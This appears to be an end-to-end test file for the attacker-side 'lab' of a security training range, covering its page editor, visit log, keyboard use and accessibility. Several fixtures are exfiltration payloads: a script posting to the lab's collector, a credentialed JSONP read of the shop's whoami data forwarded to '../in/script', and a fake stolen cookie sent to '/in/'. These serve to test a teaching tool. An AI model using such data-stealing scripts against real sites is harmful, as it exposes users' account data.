import type { Page } from 'playwright-core'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { scrollsSideways, untilDrawn, type Visitor, WIDTHS } from '../support/browser.ts'
import type { OpenRange } from '../support/open-range.ts'
import { drawn } from '../support/sample.ts'
import { onKeptPage, visit } from '../support/stage.ts'
import { enterAs } from './account-steps.ts'
import { createSweep } from './axe.ts'

/** Pages that a run looks at. */
const MAX_SWEPT_PAGES = 8

let range: OpenRange
let lab: string
let visitor: Visitor
let page: Page
onKeptPage((stage) => {
  ;({ range, visitor, page } = stage)
})
beforeEach(async () => {
  const { origin } = (await (await fetch(`${range.url}/range/lab/info`)).json()) as { origin: string }
  lab = `${origin}/range/lab`
})
afterEach(() => expect(visitor.complaints).toEqual([]))

const editor = () => page.locator('textarea')

async function write(name: string, html: string): Promise<void> {
  await page.goto(`${lab}/pages/new`)
  await page.locator('#name').fill(name)
  await editor().fill(html)
  await page.locator('button.main').click()
  await page.getByRole('status').waitFor()
}

describe('the lab', () => {
  it('is in the side menu, and another origin', async () => {
    await page.goto(`${range.url}/#/search`)
    await page.locator('[aria-label="Open Sidenav"]').click()
    const [opened] = await Promise.all([
      visitor.context.waitForEvent('page'),
      page.getByRole('link', { name: 'Outside world' }).click(),
    ])
    await opened.waitForLoadState()
    expect(opened.url()).toBe(`${lab}/`)
    expect(new URL(lab).origin).not.toBe(range.url)
    expect(await opened.locator('h1').textContent()).toBe('Welcome to Café Loopback')
    await opened.getByRole('link', { name: 'Back to' }).click()
    await opened.waitForURL(`${range.url}/**`)
  })

  it('hosts a page that sends something home, and shows the visit while one watches', async () => {
    await write(
      'spy',
      `<title>spy</title><script>fetch('../in/told', { method: 'POST', body: 'from ' + origin })</script>`,
    )
    await page.goto(`${lab}/visits/`)
    expect(await page.locator('.visits > li').count()).toBe(0)
    const victim = await visitor.context.newPage()
    await victim.goto(`${lab}/p/spy`)
    await page.bringToFront()
    await expect.poll(() => page.locator('.visits > li').count()).toBe(2)
    const told = page.locator('.visits > li').first()
    await told.locator('summary').click()
    expect(await told.locator('pre').textContent()).toBe(`from ${new URL(lab).origin}`)
    await fetch(`${lab}/in/more`)
    await expect.poll(() => page.locator('.visits > li').count()).toBe(3)
    expect(await page.locator('.visits details[open] pre').textContent()).toBe(`from ${new URL(lab).origin}`)
    await page.getByText('Clear the list').first().click()
    await page.getByRole('button', { name: 'Clear the list' }).click()
    await page.getByText('Nobody came by.').waitFor()
  })

  it('is a neighbour: the shop’s cookie goes along with a form and a script from there, and nothing can be read', async () => {
    // The browser needs the shop's cookie.
    await enterAs(page, range.url, 'demo', 'demo')
    await write(
      'neighbour',
      `<title>neighbour</title><script>
        function got(data) { fetch('../in/script', { method: 'POST', body: JSON.stringify(data) }) }
        fetch('${range.url}/rest/user/whoami', { credentials: 'include' })
          .then((reply) => reply.text(), () => 'refused').then((text) => fetch('../in/read', { method: 'POST', body: text }))
      </script>
      <script src="${range.url}/rest/user/whoami?callback=got"></script>`,
    )
    await page.goto(`${lab}/p/neighbour`)
    const received = async (path: string): Promise<string | undefined> => {
      const reply = await fetch(`${lab}/visits/`, { headers: { accept: 'application/json' } })
      const { visits } = (await reply.json()) as { visits: { url: string; body: string }[] }
      return visits.find(({ url }) => url.endsWith(path))?.body
    }
    await expect.poll(() => received('/script')).toContain('demo')
    await expect.poll(() => received('/read')).toBe('refused')
  })

  it('keeps the typed text, counts it and asks before it is lost', async () => {
    await write('mine', 'first')
    await editor().fill('ä'.repeat(40_000))
    expect(await page.locator('#size').textContent()).toBe('80,000 of 65536 bytes')
    await page.locator('button.main').click()
    expect(await page.locator('textarea:invalid').count()).toBe(1)
    await editor().fill('second')
    const asked = new Promise<string>((resolve) => {
      page.once('dialog', (dialog) => {
        resolve(dialog.type())
        void dialog.dismiss()
      })
    })
    await page.getByRole('link', { name: 'All pages' }).click({ noWaitAfter: true })
    expect(await asked).toBe('beforeunload')
    expect(await editor().inputValue()).toBe('second')
    await page.locator('button.main').click()
    await page.getByRole('status').waitFor()
    expect(await (await fetch(`${lab}/p/mine`)).text()).toBe('second')
  })

  it('copies the address of the node and the number of the chain for tools', async () => {
    await visitor.context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await page.goto(`${lab}/ledger`)
    for (const name of ['Copy RPC address', 'Copy Chain number']) {
      await page.getByRole('button', { name }).click()
      await page.getByRole('button', { name: name.replace('Copy', 'Copied') }).waitFor()
    }
    const number = Number(await page.evaluate(() => navigator.clipboard.readText()))
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_chainId', params: [] })
    const told = await fetch(`${range.url}/range/chain`, { method: 'POST', body })
    expect(Number(((await told.json()) as { result: string }).result)).toBe(number)
  })

  it('works by keyboard alone', async () => {
    await page.goto(`${lab}/`)
    await page.keyboard.press('Tab')
    expect(await page.locator(':focus').textContent()).toBe('Skip to the content')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Tab')
    expect(await page.locator(':focus').textContent()).toContain('Mailbox')
    await page.goto(`${lab}/web/`)
    await page.locator('#q').focus()
    await page.keyboard.type('enterprise')
    await page.keyboard.press('Enter')
    await page.waitForURL(/\?q=enterprise/)
    await page.locator('.results a').first().focus()
    await page.keyboard.press('Enter')
    await page.locator('.browser h1').waitFor()
  })
})

describe('accessibility of the lab', () => {
  it('holds on every page, on a phone by day and at a desk by night', async () => {
    await write('mine', '<h1>Hi</h1>')
    await fetch(`${lab}/in/?cookie=token%3D${'x'.repeat(600)}`)
    await fetch(`${range.url}/api/Users`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'ann@example.org', password: 'lemonade', passwordRepeat: 'lemonade' }),
    })
    const reader = await visit(range.url)
    const sweep = createSweep(reader.page)
    const found: string[] = []
    // The next page begins with the last look, which saves a change.
    let looks: { width: number; colorScheme: 'light' | 'dark' }[] = [
      { width: WIDTHS.phone, colorScheme: 'light' },
      { width: WIDTHS.desk, colorScheme: 'dark' },
    ]
    for (const path of drawn('pages of the lab', await everyPage(), MAX_SWEPT_PAGES)) {
      if (!(await reader.page.evaluate(takeIn, `${lab}/${path}`))) await reader.page.goto(`${lab}/${path}`)
      await reader.page.locator('h1').waitFor()
      if (path === 'visits/') await reader.page.locator('.visits summary').first().click()
      else if (await reader.page.locator('.sure > summary').count())
        await reader.page.locator('.sure > summary').first().click()
      for (const { width, colorScheme } of looks) {
        await reader.page.emulateMedia({ colorScheme })
        await reader.page.setViewportSize({ width, height: 900 })
        await untilDrawn(reader.page)
        if (await scrollsSideways(reader.page)) found.push(`${path}: scrolls sideways at ${width} px`)
        found.push(...(await sweep(`${width}`)).map((violation) => `${path} at ${width} px: ${violation}`))
      }
      looks = looks.toReversed()
    }
    expect(found).toEqual([])
    expect(reader.complaints).toEqual([])
  }, 180_000)

  /**
   * Runs in the page. Replaces it by another page with the loaded style sheets and scripts. Returns false if the other
   * page has different ones, or work for a script.
   */
  async function takeIn(address: string): Promise<boolean> {
    if (new URL(address).origin !== location.origin) return false
    const reply = await fetch(address, { headers: { accept: 'text/html' }, credentials: 'same-origin' })
    const other = new DOMParser().parseFromString(await reply.text(), 'text/html')
    const partsOf = ({ head }: Document) =>
      [...head.querySelectorAll('link, script, style, meta')]
        .map((part) => part.outerHTML.replaceAll(/"(?:\.\.\/|\.\/)+/g, '"'))
        .join('')
    const policyOf = ({ headers }: Response) => headers.get('content-security-policy')
    const stage = window as unknown as { policy?: string | null }
    stage.policy ??= policyOf(await fetch(location.href, { headers: { accept: 'text/html' } }))
    const hasOwn = other.querySelector('time, [data-live], [data-limit], [data-guard], script:not([src]), body script')
    if (hasOwn || partsOf(other) !== partsOf(document) || policyOf(reply) !== stage.policy) return false
    history.replaceState(null, '', address)
    for (const { name, value } of other.documentElement.attributes) document.documentElement.setAttribute(name, value)
    document.title = other.title
    document.body.replaceWith(document.importNode(other.body, true))
    scrollTo(0, 0)
    return true
  }

  /** Paths below the lab: its own pages, and two pages of every site. */
  async function everyPage(): Promise<string[]> {
    const own = [
      '',
      'mail/',
      'mail/2',
      'pages/',
      'pages/new?template=script',
      'pages/edit/mine',
      'visits/',
      'customer/',
      'nothing',
    ]
    const web = ['web/', 'web/?q=password', 'web/?q=qqqq']
    const sites = [...(await links('web/')).filter((link) => /^\.\.\/web\/[\w-]+\/$/.test(link))].map((link) =>
      link.slice(3),
    )
    const pages = await Promise.all(
      sites.map(async (site) =>
        (await links(site)).find((link) => link.startsWith(`../../${site}`) && !link.endsWith('/')),
      ),
    )
    return [...own, ...web, ...sites, ...pages.flatMap((link) => (link ? [link.slice(6)] : []))]
  }

  async function links(path: string): Promise<string[]> {
    const html = await (await fetch(`${lab}/${path}`, { headers: { accept: 'text/html' } })).text()
    return [...html.matchAll(/href="([^"]*)"/g)].map(([, link = '']) => link)
  }
})
